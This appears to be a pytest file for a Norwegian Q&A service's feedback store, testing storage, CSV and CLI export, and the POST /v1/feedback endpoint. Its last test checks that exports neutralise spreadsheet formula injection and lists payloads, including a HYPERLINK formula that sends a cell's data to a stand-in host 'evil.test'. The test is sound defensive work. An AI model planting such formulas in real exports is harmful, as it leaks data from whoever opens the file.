"""The feedback store (used by the widget's route and the Slack bot), its CSV export and `POST /v1/feedback`."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from kildesvar.cli import app as cli
from service.feedback.store import CSV_COLUMNS, FeedbackEntry, FeedbackStore
from tests.http.conftest import open_client
from tests.http.test_error_shape import assert_error_shape
from vectorstore.store import KnowledgeStore

CITATION = {
    "n": 1,
    "chunk_id": "lup-leverandorutvikling.md#0",
    "title": "LUP – Nasjonalt program for leverandørutvikling",
    "section": "Om programmet",
    "page": None,
    "source": "lup-leverandorutvikling.md",
    "url": None,
    "quote": "LUP eies av KS og NHO",
    "score": 0.7,
}

FEEDBACK = {
    "question": "Hvem eier LUP?",
    "answer": "LUP eies av KS og NHO [1].",
    "citations": [CITATION],
    "vote": -1,
    "comment": "Mangler årstall, «og» kontaktinfo",
    "channel": "widget",
}


def slack_entry(**changes: object) -> FeedbackEntry:
    fields: dict = {"question": "Hva er LUP?", "answer": "Et program [1].", "vote": 1, "channel": "slack"}
    return FeedbackEntry(**{**fields, **changes})


@pytest.fixture
def client(hashing_store: KnowledgeStore) -> TestClient:
    return open_client(hashing_store)


def test_record_assigns_id_and_time_and_entries_read_back_in_order(tmp_path: Path):
    store = FeedbackStore.in_data_dir(tmp_path / "data")
    first = store.record(slack_entry(citations=[CITATION], comment="Bra"))
    second = store.record(slack_entry(vote=-1))
    assert (first.id, second.id) == (1, 2)
    assert first.created_at is not None and first.created_at.tzinfo is not None
    assert list(store.entries()) == [first, second]
    assert store.path == tmp_path / "data" / "feedback.sqlite3"


def test_entries_of_a_store_never_written_are_empty_and_create_no_file(tmp_path: Path):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    assert list(store.entries()) == []
    assert not store.path.exists()


def test_store_refuses_a_vote_other_than_plus_or_minus_one(tmp_path: Path):
    with pytest.raises(Exception, match="CHECK constraint"):
        FeedbackStore(tmp_path / "f.sqlite3").record(slack_entry(vote=5))


def test_export_writes_one_csv_row_per_entry_with_citations_as_json(tmp_path: Path):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    created = datetime(2026, 5, 4, 12, 30, tzinfo=UTC)
    store.record(slack_entry(citations=[CITATION], comment='Sa "nei", og, ja', created_at=created))
    out = io.StringIO()
    assert store.export_csv(out) == 1
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == list(CSV_COLUMNS)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["created_at"] == "2026-05-04T12:30:00+00:00"
    assert (row["channel"], row["vote"], row["comment"]) == ("slack", "1", 'Sa "nei", og, ja')
    assert json.loads(row["citations"]) == [CITATION]


def test_cli_export_writes_a_csv_file_from_the_data_dir(tmp_path: Path, monkeypatch):
    monkeypatch.setenv("KILDESVAR_DATA_DIR", str(tmp_path))
    FeedbackStore.in_data_dir(tmp_path).record(slack_entry(question="Hvem står bak Årets vertskommune?"))
    out = tmp_path / "eksport.csv"
    result = CliRunner().invoke(cli, ["feedback", "export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [row["question"] for row in rows] == ["Hvem står bak Årets vertskommune?"]


def test_post_feedback_stores_the_vote_and_returns_201(client: TestClient, hashing_store: KnowledgeStore):
    response = client.post("/v1/feedback", json=FEEDBACK)
    assert response.status_code == 201
    assert response.json()["id"] == 1
    (entry,) = FeedbackStore.in_data_dir(hashing_store.settings.data_dir).entries()
    assert (entry.question, entry.vote, entry.channel, entry.comment) == (
        "Hvem eier LUP?",
        -1,
        "widget",
        "Mangler årstall, «og» kontaktinfo",
    )
    assert entry.citations == [CITATION]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"vote": 0}, "Ugyldig verdi for «vote»."),
        ({"question": ""}, "«question» må ha minst 1 tegn."),
        ({"comment": "x" * 2001}, "«comment» kan ha høyst 2000 tegn."),
        ({"channel": "slack"}, "Ugyldig verdi for «channel»."),
        ({"extra": 1}, "Ukjent felt «extra»."),
    ],
)
def test_post_feedback_rejects_invalid_bodies_in_the_error_shape(client: TestClient, change: dict, message: str):
    response = client.post("/v1/feedback", json={**FEEDBACK, **change})
    assert response.status_code == 422
    assert_error_shape(response, 422, "invalid_request")
    assert response.json()["message"] == message


@pytest.mark.parametrize(
    "comment",
    ['=HYPERLINK("http://evil.test/?x="&B2,"Klikk")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path, comment: str):
    """Issue 12, finding 6: `kildesvar feedback export` wrote formula cells unchanged into a CSV made for Excel."""
    store = FeedbackStore(tmp_path / "f.sqlite3")
    store.record(slack_entry(question=comment, comment=comment))
    out = io.StringIO()
    store.export_csv(out)
    row = dict(zip(*csv.reader(io.StringIO(out.getvalue())), strict=True))
    assert row["comment"] == row["question"] == f"'{comment}"
    assert row["vote"] == "1" and row["answer"] == "Et program [1]."
